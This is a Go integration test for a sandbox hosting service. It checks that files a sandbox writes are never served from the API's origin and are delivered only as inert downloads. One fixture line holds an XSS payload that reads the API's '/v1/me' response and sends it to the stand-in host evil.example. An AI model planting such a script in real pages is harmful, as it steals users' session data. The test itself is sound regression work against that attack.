package main

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/capsulehq/capsule/internal/envdapi"
	"github.com/capsulehq/capsule/internal/hosttest"
	"github.com/capsulehq/capsule/internal/service"
	"github.com/capsulehq/capsule/internal/testenv"
	"github.com/capsulehq/capsule/internal/wireid"
)

// TestSandboxBytesNeverOnTheAPIOrigin performs the attack of issue 9 on the
// stack capsule serve assembles (real agent, VM, embedded PostgreSQL, both
// listeners): a sandbox writes an HTML page, and its signed download URL
// is sent to the API's origin, where the page would run with access to
// the API's sessions. The API listener serves no byte of it (421); the
// sandbox listener serves it as an inert download; the E2B facade points
// the SDKs at the sandbox listener.
func TestSandboxBytesNeverOnTheAPIOrigin(t *testing.T) {
	testenv.RequireRoot(t)
	testenv.RequireCommand(t, "qemu-system-x86_64")
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
	defer cancel()
	stack, err := startBenchStack(ctx, benchStackOptions{envdBin: hosttest.Envd(t),
		dataDir: hosttest.StoreDir}, "origin-")
	if err != nil {
		t.Fatal(err)
	}
	defer stack.close()
	b := stack.api()
	resp, data, err := b.do(ctx, "POST", "/v1/sandboxes", []byte(`{"template":"minimal","memory_mb":256}`))
	if err != nil {
		t.Fatal(err)
	}
	var sb struct {
		ID        string `json:"id"`
		EnvdToken string `json:"envd_access_token"`
	}
	if resp.StatusCode != 201 || json.Unmarshal(data, &sb) != nil || sb.EnvdToken == "" {
		t.Fatalf("POST /v1/sandboxes: %d: %.300s", resp.StatusCode, data)
	}
	defer func() { _, _, _ = b.do(context.WithoutCancel(ctx), "DELETE", "/v1/sandboxes/"+sb.ID, nil) }()
	uid, err := wireid.ParseSandboxID(sb.ID)
	if err != nil {
		t.Fatal(err)
	}
	page := "<html><script>fetch('/v1/me').then(r=>r.text()).then(t=>location='//evil.example/?'+t)</script></html>"
	if _, err := stack.sandboxes.WriteFile(ctx, service.Principal{TeamID: wireid.FromUUID[wireid.KindTeam](stack.team.ID.Bytes, stack.team.ID.Valid)}, uid, "/home/user/steal.html", "user", strings.NewReader(page), int64(len(page))); err != nil {
		t.Fatal(err)
	}
	signed := "/files?path=%2Fhome%2Fuser%2Fsteal.html&username=user&signature=" +
		url.QueryEscape(envdapi.FileSignature("/home/user/steal.html", "read", "user", sb.EnvdToken, nil))
	get := func(t *testing.T, base, path string, hdr map[string]string) (int, string, http.Header) {
		t.Helper()
		req, err := http.NewRequestWithContext(ctx, "GET", base+path, nil)
		if err != nil {
			t.Fatal(err)
		}
		for k, v := range hdr {
			req.Header.Set(k, v)
		}
		resp, err := stack.client.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		body, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(body), resp.Header
	}
	envdHeaders := map[string]string{"E2b-Sandbox-Id": uid.String(), "E2b-Sandbox-Port": "49983", "X-Access-Token": sb.EnvdToken}
	sandboxPort := strings.TrimPrefix(stack.sandboxURL, "http://127.0.0.1:")

	t.Run("API origin: the signed URL gets no sandbox byte", func(t *testing.T) {
		c, body, _ := get(t, stack.url, signed, nil)
		if c != http.StatusMisdirectedRequest || strings.Contains(body, "<script>") {
			t.Fatalf("%d %q", c, body)
		}
	})
	t.Run("API origin: E2B routing headers get no sandbox byte", func(t *testing.T) {
		c, body, _ := get(t, stack.url, "/files?path=%2Fhome%2Fuser%2Fsteal.html", envdHeaders)
		if c != http.StatusMisdirectedRequest || strings.Contains(body, "<script>") {
			t.Fatalf("%d %q", c, body)
		}
	})
	t.Run("sandbox listener: an inert download", func(t *testing.T) {
		for _, tc := range []struct {
			name string
			path string
			hdr  map[string]string
		}{{"signed", signed, nil}, {"envd token", "/files?path=%2Fhome%2Fuser%2Fsteal.html", envdHeaders}} {
			c, body, h := get(t, stack.sandboxURL, tc.path, tc.hdr)
			if c != 200 || body != page {
				t.Fatalf("%s: %d %q", tc.name, c, body)
			}
			if d := h.Get("Content-Disposition"); !strings.HasPrefix(d, "attachment") || !strings.Contains(d, "steal.html") ||
				h.Get("X-Content-Type-Options") != "nosniff" || !strings.HasPrefix(h.Get("Content-Security-Policy"), "sandbox") {
				t.Fatalf("%s: headers %v", tc.name, h)
			}
		}
	})
	t.Run("E2B facade: the domain leads getHost to the sandbox listener", func(t *testing.T) {
		req, _ := http.NewRequestWithContext(ctx, "GET", stack.url+"/sandboxes/"+uid.String(), nil)
		req.Header.Set("X-API-Key", stack.key)
		resp, err := stack.client.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		var got struct {
			Domain string `json:"domain"`
		}
		if err := json.NewDecoder(resp.Body).Decode(&got); err != nil || resp.StatusCode != 200 {
			t.Fatalf("%d %v", resp.StatusCode, err)
		}
		if want := fmt.Sprintf("localhost:%s", sandboxPort); got.Domain != want {
			t.Fatalf("domain %q, want %q", got.Domain, want)
		}
	})
}
